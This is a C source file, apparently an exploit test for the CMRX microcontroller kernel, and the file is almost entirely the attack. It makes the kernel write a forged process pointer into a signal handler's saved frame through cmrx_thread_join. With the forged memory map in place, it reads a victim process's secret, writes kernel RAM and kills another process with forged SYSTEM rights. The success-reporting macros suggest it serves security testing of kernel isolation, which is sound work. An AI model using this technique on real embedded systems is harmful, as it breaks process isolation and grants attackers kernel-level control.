/* Attack: make the kernel write into its own frame for us.
 *
 * A signal handler cannot reach its signal frame (the stack above it is
 * hidden). But the kernel writes results where a system call says, after
 * checking the pointer: if that check takes the whole stack as the
 * thread's, cmrx_thread_join() stores a thread's exit code (here, the
 * address of a forged process) into the frame's saved memory map, and the
 * handler's return installs it. */
#include "attack.h"
#include "fake.h"

extern uint8_t __cmrx_kbss_start[];

static struct fake_process fake;
static const char fake_name[] = "forged";
/* What the attack uses once the forged map is in: one 32-byte window. */
static struct {
    volatile uintptr_t sp_before;
    volatile int joined;
} st __attribute__((aligned(32))) = {0, 1};
#define sp_before st.sp_before
#define joined    st.joined

static int child(void *arg)
{
    (void)arg;
    return (int)(uintptr_t)&fake;
}

static void handler(uint32_t signals)
{
    (void)signals;
    uint32_t *frame = (uint32_t *)((HW_FRAME(sp_before) - FRAME_SIZE) & ~(uintptr_t)7u);
    cmrx_tid_t c = cmrx_thread_create(child, NULL, 20);
    joined = cmrx_thread_join(c, (int *)(void *)&frame[FRAME_SAVED_IMAGE]);
}

static int forger(void *arg)
{
    (void)arg;
    fake.name = fake_name;
    const uintptr_t w[4] = {(uintptr_t)victim_secret, (uintptr_t)victim_secret + 31u,
                            (uintptr_t)__cmrx_kbss_start, (uintptr_t)&st};
    fake_windows(&fake, w);
    cmrx_signal_handler(handler);
    register uint32_t r0 __asm("r0") = (uint32_t)cmrx_thread_self();
    register uint32_t r1 __asm("r1") = CMRX_SIGUSR1;
    register uint32_t r2 __asm("r2") = (uint32_t)(uintptr_t)&sp_before;
    __asm volatile("mov r3, sp\n\t"
                   "str r3, [r2]\n\t"
                   "bl cmrx_signal_send\n\t"
                   : "+r"(r0), "+r"(r1), "+r"(r2)
                   :
                   : "r3", "r12", "lr", "memory");
    cmrx_printf("attack_joinframe: join into the frame returned %d\n", joined);
    if (joined != CMRX_OK) {
        return 0;
    }
    unsigned hits = secret_hits(victim_secret, SECRET_WORDS);
    if (hits > 0) {
        ATTACK_SUCCEEDED("read %u words of the victim's secret", hits);
        victim_secret[1] ^= 1u;
    }
    volatile uint32_t *k = (volatile uint32_t *)(void *)__cmrx_kbss_start;
    *k = *k;
    ATTACK_SUCCEEDED("wrote kernel RAM");
    if (cmrx_process_control(3, CMRX_PROC_KILL) == CMRX_OK) {
        ATTACK_SUCCEEDED("killed another process with forged SYSTEM rights");
    }
    return 0;
}

static int attack(void *arg)
{
    (void)arg;
    cmrx_tid_t t = cmrx_thread_create(forger, NULL, 20);
    cmrx_thread_join(t, NULL);
    attack_done(1);
    return 0;
}
CMRX_THREAD(attack, NULL);
